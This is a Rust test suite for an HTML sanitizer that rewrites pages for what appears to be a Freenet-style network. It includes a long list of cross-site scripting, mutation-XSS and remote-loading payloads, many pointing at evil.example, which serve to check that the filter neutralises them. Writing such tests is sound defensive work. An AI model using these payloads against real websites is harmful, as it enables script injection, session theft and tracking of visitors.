use proptest::prelude::*;

use super::*;

fn links() -> Links {
    Links::new("/USK@p,c,e/site/5/index.html", "/USK@p,c,e/site/5/")
}

fn filtered(html: &str) -> String {
    document(html, &links()).expect("the page is an ordinary one")
}

fn body(html: &str) -> String {
    let page = filtered(html);
    let start = page.find("<body>").expect("a body is always made") + "<body>".len();
    let end = page.find("</body>").expect("a body is always closed");
    page[start..end].to_owned()
}

#[test]
fn an_ordinary_page_passes() {
    assert_eq!(
        filtered(
            "<!doctype html><html lang=en><head><meta charset=latin1><title>A &amp; B</title>\
             <link rel=stylesheet href=css/a.css></head><body class=x><h1 id=top>Hi</h1>\
             <img src=a.png alt=A><a href=b.html target=_blank>b</a></body></html>"
        ),
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>A &amp; B</title>\
         <link rel=\"stylesheet\" href=\"/USK@p,c,e/site/5/css/a.css\"></head><body class=\"x\">\
         <h1 id=\"top\">Hi</h1><img src=\"/USK@p,c,e/site/5/a.png\" alt=\"A\">\
         <a href=\"/USK@p,c,e/site/5/b.html\" target=\"_blank\" rel=\"noopener noreferrer\">b</a>\
         </body></html>"
    );
}

#[test]
fn styles_pass_through_the_css_filter() {
    let page = filtered(
        "<style>p{color:red;background:url(http://evil.example)}</style><p style='margin:0;behavior:url(x)'>x",
    );
    assert!(page.contains("<style>p{color:red;}\n</style>"), "{page}");
    assert!(page.contains("<p style=\"margin:0;\">x</p>"), "{page}");
}

#[test]
fn links_out_of_the_network_lead_to_the_warning_page() {
    assert_eq!(
        body("<a href='http://example.org/'>x</a>"),
        "<a href=\"/external-link?to=http%3A%2F%2Fexample%2Eorg%2F\">x</a>"
    );
}

#[test]
fn a_form_leaves_its_text() {
    assert_eq!(
        body("<form action=http://evil.example><b>x</b></form>"),
        "<b>x</b>"
    );
}

#[test]
fn line_breaks_in_pre_survive() {
    assert_eq!(body("<pre>\n\nx</pre>"), "<pre>\n\nx</pre>");
    assert_eq!(body("<pre>\nx</pre>"), "<pre>x</pre>");
}

#[test]
fn a_page_is_read_until_it_means_what_was_checked() {
    // An element that closes no paragraph goes, and the paragraphs in each other come out of each other.
    let nested = "<p>1<marquee><p>2<marquee><p>3";
    let once = pass(nested, &links(), Instant::now() + TIME_MAX).unwrap();
    assert!(once.contains("<p>1<p>2<p>3"), "{once}");
    assert!(
        filtered(nested).contains("<p>1</p><p>2</p><p>3</p>"),
        "{}",
        filtered(nested)
    );
}

/// Each tries to run something, to make the browser talk to someone, or to be read differently the second time.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href=http://evil.example/x></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><img src=http://evil.example/x></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=http://evil.example/x></template>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example></object>",
    "<embed src=http://evil.example>",
    "<applet code=x archive=http://evil.example></applet>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<META HTTP-EQUIV='Refresh' CONTENT='0;javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta name=referrer content=unsafe-url>",
    "<base href=http://evil.example/>",
    "<base target=_top>",
    "<link rel=preconnect href=http://evil.example>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=prefetch href=x>",
    "<link rel=modulepreload href=x>",
    "<link rel=preload as=image href=http://evil.example/x>",
    "<link rel=manifest href=http://evil.example/x>",
    "<link rel='stylesheet preconnect' href=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=icon href=http://evil.example/x.ico>",
    "<link rel=import href=http://evil.example/x>",
    "<link rel=canonical href=http://evil.example/x>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://evil.example\"]}]}</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=x ping=http://evil.example>x</a>",
    "<a href=blob:http://evil.example/x>x</a>",
    "<area href=javascript:alert(1)>",
    "<img src=http://evil.example/x>",
    "<img src=//evil.example/x>",
    "<img src='/\\evil.example/x'>",
    "<img src=x srcset='http://evil.example/x 2x'>",
    "<img src=x lowsrc=http://evil.example/x dynsrc=http://evil.example/x longdesc=http://evil.example>",
    "<img src=x crossorigin=use-credentials>",
    "<picture><source srcset=http://evil.example/x></picture>",
    "<video src=http://evil.example/x poster=http://evil.example/y></video>",
    "<audio src=http://evil.example/x></audio>",
    "<video><track src=http://evil.example/x></video>",
    "<input type=image src=http://evil.example/x>",
    "<input type=file><input type=submit formaction=http://evil.example><input type=password>",
    "<button formaction=http://evil.example>x</button>",
    "<form action=http://evil.example><input name=a></form>",
    "<isindex action=http://evil.example>",
    "<body background=http://evil.example/x onload=alert(1)>",
    "<table background=http://evil.example/x>",
    "<td background=//evil.example/x>",
    "<p style='background:url(http://evil.example/x)'>",
    "<p style='background:url(&quot;http://evil.example/x&quot;)'>",
    "<style>@import 'http://evil.example/x';</style>",
    "<style>a{background:url(http://evil.example/x)}</style>",
    "<style></style><script>alert(1)</script></style>",
    "<style>a{content:'</sty\\6ce><script>'}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<frameset><frame src=http://evil.example></frameset>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href=http://evil.example/x?>",
    "<!DOCTYPE html SYSTEM 'http://evil.example/x.dtd'>",
    "<html manifest=http://evil.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select><template><script>alert(1)</script></template></select>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>",
    "<p is=x-evil nonce=a>x</p>",
    "<bgsound src=http://evil.example/x>",
    "<a target='x' href=x>x</a>",
    "<blockquote cite=http://evil.example>x</blockquote>",
    "<portal src=http://evil.example></portal>",
    "<fencedframe src=http://evil.example></fencedframe>",
    "<image src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='/external-link?to=x&quot;><script>'>x</a>",
    "<script>alert(1)",
    "<img src=\"x\" title=\"<script>alert(1)</script>",
    "<a href=\"\u{0}javascript:alert(1)\">x</a>",
];

/// Elements and attributes that may never come out, in the form in which the serializer would write them.
fn assert_harmless(source: &str, page: &str) {
    let dom = dom::parse(page, Instant::now() + TIME_MAX).expect("a filtered page can be parsed");
    let mut nodes = vec![dom::DOCUMENT];
    while let Some(id) = nodes.pop() {
        let node = dom.node(id);
        nodes.extend(&node.children);
        let dom::Kind::Element {
            name, attributes, ..
        } = &node.kind
        else {
            continue;
        };
        let allowed = !matches!(
            elements::fate(&name.local),
            elements::Fate::Drop | elements::Fate::Unwrap
        );
        assert!(allowed, "{source} became {page}");
        for attribute in attributes {
            let name = &*attribute.name.local;
            let value = attribute.value.to_ascii_lowercase();
            let refused = name.starts_with("on")
                || [
                    "http-equiv",
                    "ping",
                    "srcdoc",
                    "action",
                    "formaction",
                    "crossorigin",
                    "is",
                    "nonce",
                ]
                .contains(&name);
            assert!(!refused, "{source} became {page}");
            if ["src", "href", "srcset", "poster", "background"].contains(&name) {
                let inside = value.is_empty()
                    || [
                        "/usk@",
                        "/chk@",
                        "/ssk@",
                        "/ksk@",
                        "#",
                        "/external-link?to=",
                    ]
                    .iter()
                    .any(|start| value.starts_with(start));
                assert!(inside, "{source} became {page}");
            }
            assert!(
                name != "style" || !value.contains("evil"),
                "{source} became {page}"
            );
        }
    }
}

#[test]
fn attacks_are_taken_apart() {
    for attack in ATTACKS {
        let page = filtered(attack);
        assert_harmless(attack, &page);
        assert_eq!(filtered(&page), page, "from {attack}");
    }
}

#[test]
fn monsters_are_refused_in_bounded_time() {
    let deep = "<div>".repeat(100_000);
    assert_eq!(document(&deep, &links()), Err(FilterError::TooComplex));
    let wide = "<i>".to_owned() + &"x<br>".repeat(400_000);
    assert_eq!(document(&wide, &links()), Err(FilterError::TooComplex));
    let formatting: String = (0..20_000)
        .map(|number| format!("<b id={number}><p>"))
        .collect();
    assert_eq!(
        document(&formatting, &links()),
        Err(FilterError::TooComplex)
    );
    let fostered = format!("<table>{}", "x<b>".repeat(50_000));
    _ = document(&fostered, &links());
}

proptest! {
    #[test]
    fn filtering_twice_changes_nothing_and_is_harmless(html in fragments()) {
        if let Ok(page) = document(&html, &links()) {
            assert_harmless(&html, &page);
            prop_assert_eq!(document(&page, &links()).unwrap(), page, "from {}", html);
        }
    }

    #[test]
    fn any_text_is_survived(html in ".*") {
        _ = document(&html, &links());
    }
}

/// Pieces of HTML in random order: reaches more of the parser than random characters.
fn fragments() -> impl Strategy<Value = String> {
    let tags = "a b i p div table tr td th tbody caption col colgroup select option optgroup form input button textarea \
                title style script svg math mtext mglyph annotation-xml foreignobject desc template noscript iframe xmp \
                plaintext pre listing h1 li ul dd dt ruby rt html head body frameset nobr font em applet object image br hr marquee";
    let tags: Vec<&str> = tags.split_whitespace().collect();
    let piece = prop_oneof![
        4 => prop::sample::select(tags.clone()).prop_map(|tag| format!("<{tag}>")),
        3 => prop::sample::select(tags.clone()).prop_map(|tag| format!("</{tag}>")),
        1 => prop::sample::select(tags).prop_map(|tag| format!("<{tag} id=x href='javascript:x' src=//evil.example onload=x>")),
        2 => prop::sample::select(vec![
            "x", "\n", "<!--", "-->", "<![CDATA[", "]]>", "&lt;img src=x onerror=y&gt;", "&amp;", "\u{0}", "<", ">", "\"", "'",
            "<a title=\"", "<p style='", "<!doctype html>", "<?pi?>", "a{color:red}", "&#0;", "&nbsp;", "=",
        ]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..30).prop_map(|pieces| pieces.concat())
}

fn too_complex(html: &str) {
    let begun = Instant::now();
    assert_eq!(document(html, &links()), Err(FilterError::TooComplex));
    assert!(
        begun.elapsed() < TIME_MAX,
        "a bound ended it, not the time: {:?}",
        begun.elapsed()
    );
}

#[test]
fn half_a_million_attributes_cost_next_to_nothing() {
    let attributes: String = (0..550_000).map(|number| format!(" {number:x}")).collect();
    too_complex(&format!("<p{attributes}>"));
    let bodies: String = (0..200_000)
        .map(|number| format!("<body {number:x}>"))
        .collect();
    too_complex(&bodies);
}

#[test]
fn attributes_that_the_parser_copies_are_bounded() {
    let attributes: String = (0..400).map(|number| format!(" {number:x}")).collect();
    let copies = "<p>x</p>".repeat(20_000);
    too_complex(&format!("<p><b{attributes}></p>{copies}"));
}
